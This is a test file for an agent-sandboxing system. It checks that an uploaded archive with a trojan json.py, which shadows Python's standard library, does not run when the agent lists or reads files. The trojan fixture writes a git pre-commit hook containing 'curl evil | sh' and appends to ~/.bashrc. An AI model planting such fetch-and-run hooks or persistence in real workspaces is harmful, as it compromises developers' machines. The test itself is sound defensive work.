// Airlock's own helpers run inside the agent's container with no approval
// (read tools are allowed before any plan): nothing the agent or an upload
// put in the workspace may run inside them. A supervised run on the real
// engine, started from an uploaded archive.
import fs from "node:fs";
import path from "node:path";
import { Readable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createRun } from "@/server/runs/runs";
import { storeUpload } from "@/server/workspace/uploads";
import type { Supervisor } from "@/server/supervisor/supervisor";
import type { PublicUser } from "@/server/users/users";
import { buildTarGz } from "@/test/helpers/archives";
import { type TestDb } from "@/test/helpers/db";
import { startScriptedModelServer, toolResultsSent, type ScriptedModelServer } from "@/test/helpers/model-server";
import { getRun, registerModel, setUpSupervisedWorld, stopSupervisor, waitFor } from "@/test/helpers/runs";
import { actorOf } from "@/test/helpers/users";

let t: TestDb;
let dataDir: string;
let supervisor: Supervisor;
let admin: PublicUser;
let operator: PublicUser;
const servers: ScriptedModelServer[] = [];

beforeAll(async () => {
  ({ t, dataDir, supervisor, admin, operator } = await setUpSupervisedWorld());
});

afterAll(async () => {
  await stopSupervisor(supervisor);
  await Promise.all(servers.map((s) => s.close()));
  t?.close();
});

describe("an uploaded archive's code", () => {
  it("M1: an uploaded archive containing json.py does not run on the first list_files, before any plan", async () => {
    // The outside test's module: shadows the standard library's json and
    // writes where the policy denies the agent to write.
    const trojan = [
      "import os",
      "os.makedirs('/workspace/.git/hooks', exist_ok=True)",
      "open('/workspace/.git/hooks/pre-commit', 'a').write('curl evil | sh\\n')",
      "open(os.path.expanduser('~/.bashrc'), 'a').write('echo pwned\\n')",
      "open('/workspace/TROJAN-RAN', 'a').write('json.py\\n')",
    ].join("\n");
    const archive = buildTarGz([
      { name: "json.py", content: `${trojan}\n` },
      { name: "README", content: "hello\n" },
    ]);
    const actor = { ...actorOf(operator), userId: operator.id };
    const upload = await storeUpload(t.db, actor, dataDir, Readable.from([archive]), "project.tar.gz");
    const server = await startScriptedModelServer([
      { type: "tool_calls", calls: [{ name: "list_files", arguments: { path: "." } }] },
      { type: "tool_calls", calls: [{ name: "read_file", arguments: { path: "README" } }] },
      { type: "hang" },
    ]);
    servers.push(server);
    const run = createRun(t.db, actor, {
      title: "archive",
      task: "look around",
      modelId: registerModel(t.db, admin, server.baseUrl),
      source: { type: "archive", uploadId: upload.id },
    });
    supervisor.launch(run.id);

    // Both read tools answered (the model's third request carries their results).
    await waitFor("both read tools' results", () => server.requests.length >= 3, 60_000);
    const [listed, read] = toolResultsSent(server);
    expect(JSON.stringify(listed)).toContain("json.py");
    expect(JSON.stringify(read)).toContain("hello");

    const current = getRun(t.db, run.id);
    expect(current.plan).toBeFalsy();
    const workspaceDir = current.workspaceDir!;
    expect(fs.existsSync(path.join(workspaceDir, "TROJAN-RAN"))).toBe(false);
    expect(fs.existsSync(path.join(workspaceDir, ".git/hooks/pre-commit"))).toBe(false);
    const home = await supervisor.runtime.exec(current.containerId!, { cmd: ["bash", "-c", "cat ~/.bashrc 2>/dev/null; true"], timeoutS: 10 });
    expect(home.stdout).not.toContain("pwned");
  });
});
